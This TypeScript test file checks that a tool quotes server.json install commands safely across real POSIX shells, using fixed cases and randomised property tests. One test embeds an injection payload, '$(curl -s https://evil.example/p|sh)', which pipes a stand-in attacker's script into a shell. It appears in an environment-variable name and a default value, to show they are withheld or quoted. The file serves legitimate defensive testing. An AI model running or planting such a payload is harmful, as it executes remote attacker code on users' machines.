/**
 * The "Shell command" snippet says exactly what the configurations say. For any strings in server.json, real POSIX
 * shells (dash, bash, bash --posix, zsh when present) parse the line into the command, arguments and environment
 * the plan means, which the generic configuration also says (./shell-reader.ts: nothing is run).
 */
import { describe, expect, it } from 'vitest';
import type { ServerJson } from '../../scripts/core/types.ts';
import { INVISIBLE, isEnvVarName } from '../../scripts/rules/identifiers.ts';
import { commandLine, launches, type Launch } from '../../scripts/site/install-config.ts';
import { shellQuote } from '../../scripts/site/shell-quote.ts';
import { expectLineMeans, SHELLS } from './shell-reader.ts';

// ---------------------------------------------------------------------------------------------------------------
// Random strings, heavy on what shells treat specially. Letters are only x, y, z: no accidental command names.

function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const ATOMS = [
  ...'xyz019_-./:=@%+,',
  ...`'"\\$\`(){}[]*?!#~&|;<>^ `,
  "'\\''",
  '$(xz)',
  '`xz`',
  '${xz}',
  '${env:HOME}',
  '$((1+1))',
  '"$x"',
  '\\n',
  'é',
  '😀',
  '\u00a0',
  '--',
  '=x',
];
/** Rarely: characters no quoting makes visible, which must withhold the line. */
const HIDDEN = ['\n', '\t', '\u0000', '\u202e', '\u200b', '\u001b[201~'];

function randomString(r: () => number, hidden: boolean): string {
  const n = Math.floor(r() * 10);
  let s = '';
  for (let i = 0; i < n; i++) s += ATOMS[Math.floor(r() * ATOMS.length)];
  if (hidden && r() < 0.1) s += HIDDEN[Math.floor(r() * HIDDEN.length)];
  return s;
}

const RESERVED = new Set(['PWD', 'OLDPWD', 'SHLVL', '_', 'PATH', 'IFS', 'PS1', 'PS2', 'PS4', 'OPTIND', 'ENV']);
function randomName(r: () => number, i: number): string {
  if (r() < 0.1) return randomString(r, false) || '1X'; // not a variable name: the line must be withheld
  const name = `V${i}_${'xyz'[Math.floor(r() * 3)]}`;
  return RESERVED.has(name) ? `${name}_` : name;
}

function randomDoc(seed: number): ServerJson {
  const r = rng(seed);
  const str = (): string => randomString(r, true);
  const args = (): unknown[] =>
    Array.from({ length: Math.floor(r() * 4) }, () =>
      r() < 0.5
        ? { type: 'positional', value: str() }
        : {
            type: 'named',
            name: `--${'xyz'.slice(0, 1 + Math.floor(r() * 3))}`,
            ...(r() < 0.5 ? { value: str() } : { default: str() }),
          },
    );
  const environmentVariables = Array.from({ length: Math.floor(r() * 4) }, (_, i) => ({
    name: randomName(r, i),
    ...(r() < 0.5 ? { value: str() } : { default: str(), isRequired: true }),
  }));
  const type = ['npm', 'pypi', 'nuget', 'oci'][Math.floor(r() * 4)]!;
  const pkg: Record<string, unknown> = {
    registryType: type,
    identifier: type === 'oci' ? 'ghcr.io/x/y:1' : r() < 0.8 ? 'pkg-x' : str(),
    ...(type === 'oci' ? {} : { version: r() < 0.8 ? '1.0.0' : str() }),
    transport: { type: 'stdio' },
    runtimeArguments: args(),
    packageArguments: args(),
    environmentVariables,
  };
  return { name: 'io.github.x/y', description: 'x', version: '1.0.0', packages: [pkg as never] };
}

function withheldForCause(l: Launch): boolean {
  const texts = [...l.env.map((e) => e.value), ...l.args].flatMap((t) =>
    t.map((p) => (typeof p === 'string' ? p : (l.inputs.find((i) => i.id === p.input)?.default ?? ''))),
  );
  return l.env.some((e) => !isEnvVarName(e.name)) || texts.some((t) => INVISIBLE.test(t));
}

describe('the shell line, parsed by real shells', () => {
  it('has shells to test with', () => {
    expect(SHELLS.map((s) => s[0])).toContain('/bin/sh');
  });

  it('the issue 9 example: the name cannot reach the shell; a valid name and hostile values are quoted', () => {
    const hostile: ServerJson = {
      name: 'io.github.x/weather',
      description: 'x',
      version: '1.0.0',
      packages: [
        {
          registryType: 'npm',
          identifier: 'weather-mcp',
          version: '1.0.0',
          transport: { type: 'stdio' },
          environmentVariables: [{ name: 'X=$(curl -s https://evil.example/p|sh) LOG_LEVEL', default: 'info' }],
        },
      ],
    };
    expect(commandLine(launches(hostile)[0]!)).toBeUndefined();
    const quoted = structuredClone(hostile);
    quoted.packages![0]!.environmentVariables = [
      { name: 'LOG_LEVEL', default: "$(curl -s https://evil.example/p|sh)'; x=`id`" },
    ];
    quoted.packages![0]!.packageArguments = [{ type: 'positional', value: "it's ${HOME} & ~ *" }];
    const l = launches(quoted)[0]!;
    expect(commandLine(l)).toBe(
      `LOG_LEVEL='$(curl -s https://evil.example/p|sh)'\\''; x=\`id\`' npx -y weather-mcp@1.0.0 'it'\\''s \${HOME} & ~ *'`,
    );
    expectLineMeans(l);
  });

  it('quotes every word it cannot prove bare, and leaves the safe ones readable', () => {
    expect(['npx', '-y', '@scope/pkg@1.2.3', '--port=80', 'a,b:c+d%e'].map(shellQuote)).toEqual([
      'npx',
      '-y',
      '@scope/pkg@1.2.3',
      '--port=80',
      'a,b:c+d%e',
    ]);
    expect(['', '=cmd', '~', 'a b', '#x', '!x', '{a,b}', '<id>', 'é'].map(shellQuote)).toEqual([
      "''",
      "'=cmd'",
      "'~'",
      "'a b'",
      "'#x'",
      "'!x'",
      "'{a,b}'",
      "'<id>'",
      "'é'",
    ]);
  });

  it('for 300 random server.json documents, every shell reads the line as the configuration says', () => {
    let shown = 0;
    for (let seed = 1; seed <= 300; seed++) {
      for (const l of launches(randomDoc(seed))) {
        if (commandLine(l) === undefined) {
          expect(withheldForCause(l), `seed ${seed}: withheld without cause`).toBe(true);
          continue;
        }
        expectLineMeans(l);
        shown++;
      }
    }
    // Most documents must produce a line, or the property says little.
    expect(shown).toBeGreaterThan(150);
  });
});
